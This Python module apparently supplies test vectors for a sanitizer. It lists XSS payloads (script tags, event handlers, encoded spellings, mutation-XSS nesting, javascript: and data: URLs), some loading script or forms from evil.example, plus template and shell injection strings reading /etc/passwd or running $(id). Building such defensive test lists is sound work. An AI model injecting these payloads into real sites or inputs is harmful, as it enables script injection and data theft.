"""Ways in which text has become script somewhere: each must stay text here.

They are put together from tags, attributes and spellings, so that what one of them proves is
proved of its whole family.
"""

from __future__ import annotations

from collections.abc import Iterator

CALL = "alert(1)"

# Elements that run, fetch, frame or submit something by themselves.
_ELEMENTS = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<script\t>{CALL}</script\t>",
    f"<script\n>{CALL}</script >",
    f"<script/x>{CALL}</script>",
    f"<script type=module>{CALL}</script>",
    f"<script type='text/javascript'>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script src=/static/x.js integrity=x></script>",
    f"<script>/*</script><script>*/{CALL}</script>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'></noscript>",
    f"<textarea></textarea><script>{CALL}</script>",
    f"<title></title><script>{CALL}</script></title>",
    f"<style></style><script>{CALL}</script>",
    f"<xmp></xmp><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?xml version='1.0'?><script>{CALL}</script>",
    f"<template><script>{CALL}</script></template>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:,{CALL}'/></svg>",
    f"<svg><style><script>{CALL}</script></style></svg>",
    f"<svg></p><style><g title='</style><script>{CALL}</script>'>",
    f"<math><mtext><table><mglyph><style><script>{CALL}</script>",
    f"<math><annotation-xml encoding='text/html'><script>{CALL}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><script>{CALL}</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data='data:text/html,x'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<base href='javascript:/a/..//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=//evil.example></portal>",
    "<fencedframe src=//evil.example></fencedframe>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><image href=javascript:alert(1) /></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src onerror=alert(1)></audio>",
    "<table background=javascript:alert(1)></table>",
    "<body background=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<custom-element onfocus=alert(1) tabindex=0 autofocus>x</custom-element>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<img src='x' style='background:url(javascript:alert(1))'>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div hx-get='/x' hx-trigger='load'>x</div>",
    "<div data-hx-get='/x' data-hx-trigger='load' hx-on:click='alert(1)'>x</div>",
    "<div hx-on::load='alert(1)'>x</div>",
    "<input id=q name=q onfocus=alert(1)>",
    "<div id=results>another list of results</div>",
    "<a id=body name=getElementById>clobbered</a>",
    "<form id=document><input name=cookie></form>",
]

_EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontransitionend",
    "onpointerenter", "onbeforetoggle", "onwheel", "oncopy", "onscrollend", "onauxclick",
]  # fmt: skip
_HANDLERS = [
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    "<p {event}='{call}'>x</p>",
    '<img/src=x/{event}="{call}">',
]
_SPELLINGS = [
    "<IMG SRC=x OnErRoR={call}>",
    "<img src=x onerror\t={call}>",
    "<img src=x onerror\n=\n{call}>",
    "<img src=x\x0conerror={call}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=&#x61;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    '<img src="x"onerror={call}>',
    "<img src='x'onerror={call}>",
    "<img src=`x`onerror={call}>",
    "<img src=x:x onerror={call} //",
    "<img \x00src=x onerror={call}>",
    "<img src=x onerror={call}",
    '"><img src=x onerror={call}>',
    "'><img src=x onerror={call}>",
    "--><img src=x onerror={call}>",
    "]]><img src=x onerror={call}>",
    "</textarea><img src=x onerror={call}>",
    "</title><img src=x onerror={call}>",
    "</script><img src=x onerror={call}>",
    "</style><img src=x onerror={call}>",
    "</pre></code><img src=x onerror={call}>",
    '" onmouseover="{call}" x="',
    "' onmouseover='{call}' x='",
    "` onmouseover=`{call}` x=`",
    " onmouseover={call} ",
    "＜script＞{call}＜/script＞",
    "<ſcript>{call}</ſcript>",
    "%3Cscript%3E{call}%3C/script%3E",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3e{call}\\x3c/script\\x3e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
]

_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "jar:https://evil.example/x.jar!/x.html",
    "intent://x#Intent;scheme=javascript;end",
]
_LINKS = ["<a href='{url}'>x</a>", "[x](<{url}>)", "![x](<{url}>)", "[x]: {url}\n\n[x]", "<{url}>"]

# What is code to a template engine, a shell or a formatter, and to nobody here.
_TEMPLATES = [
    "{{ 7 * 191 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,) %}{{ 7 * 191 }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# hidden #}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{0.__class__}",
    "%(secret)s",
    "$(id)",
    "`id`",
    "*{7*191}",
]


def vectors() -> list[str]:
    """Every vector once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _ELEMENTS
    for handler in _HANDLERS:
        for event in _EVENTS:
            yield handler.format(event=event, call=CALL)
    for spelling in _SPELLINGS:
        yield spelling.replace("{call}", CALL)
    for number, url in enumerate(_ADDRESSES):
        yield _LINKS[number % len(_LINKS)].replace("{url}", url)
        yield _LINKS[0].replace("{url}", url)
    yield from _TEMPLATES
